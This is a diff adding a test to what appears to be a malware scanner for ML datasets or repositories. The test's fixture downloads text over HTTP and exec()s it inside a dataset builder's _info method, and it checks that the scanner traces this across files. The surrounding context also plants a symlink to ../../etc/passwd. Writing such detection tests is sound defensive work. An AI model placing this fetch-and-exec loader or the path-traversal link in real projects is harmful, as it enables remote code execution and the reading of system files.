@@ -135,6 +135,21 @@ def test_a_directory_is_judged_as_one_repository(tmp_path):
     assert any(uri.endswith("/torch.py") for uri in uris)
 
 
+def test_code_is_followed_across_the_files_of_a_directory(tmp_path):
+    (tmp_path / "data.py").write_text("import requests\ndef fetch():\n    return requests.get('http://127.0.0.1:9').text\n")
+    (tmp_path / "mine.py").write_text("import datasets\nfrom .data import fetch\n"
+                                      "class Mine(datasets.GeneratorBasedBuilder):\n"
+                                      "    def _info(self):\n        exec(fetch())\n")
+    run = scan("--format", "jsonl", tmp_path)
+    reports = lines(run)
+    assert run.returncode == 1, run.stderr
+    assert [report["verdict"] for report in reports] == ["clean", "clean", "malicious"]
+    found = {finding["rule"]: finding for finding in reports[2]["findings"]}
+    assert found["python-execution"]["where"] == "mine.py"
+    assert "data.py:3:" in found["python-execution"]["evidence"] and "mine.py:5:" in found["python-execution"]["evidence"]
+    assert "mine.py -> data.py" in found["tree-entry-point"]["evidence"]
+
+
 def test_links_and_pointers_of_a_directory(tmp_path):
     (tmp_path / "model.bin").symlink_to("../../etc/passwd")
     run = scan("--format", "jsonl", tmp_path)
